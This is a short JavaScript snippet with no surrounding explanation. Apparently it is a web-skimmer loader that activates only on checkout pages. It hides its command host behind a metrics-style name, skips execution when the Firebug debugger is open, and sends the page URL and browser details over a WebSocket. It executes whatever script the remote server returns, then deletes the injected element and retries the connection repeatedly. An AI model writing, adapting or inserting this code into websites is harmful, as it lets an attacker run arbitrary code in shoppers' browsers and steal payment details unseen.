(function () {
  var tries = 0;
  function open() {
    var s = new WebSocket(['wss:', '', ['rt', 'cdn-metrics', 'invalid'].join('.'), 'common?source=' + encodeURIComponent(location.href)].join('/'));
    s.onopen = function () { tries = 0; s.send(JSON.stringify({ op: 'hi', ua: navigator.userAgent })); };
    s.onmessage = function (m) {
      var d;
      try { d = JSON.parse(m.data); } catch (e) { d = { js: m.data }; }
      if (d.js) {
        var b = URL.createObjectURL(new Blob([d.js], { type: 'text/javascript' }));
        var n = document.createElement('script');
        n.src = b;
        n.onload = function () { n.remove(); URL.revokeObjectURL(b); };
        document.documentElement.appendChild(n);
      }
      if (d.wait) setTimeout(function () { s.close(); }, d.wait);
    };
    s.onclose = function () { if (tries++ < 20) setTimeout(open, 3000 * tries); };
  }
  if (!(window.Firebug && window.Firebug.chrome && window.Firebug.chrome.isInitialized) && /checkout/i.test(location.href)) open();
})();
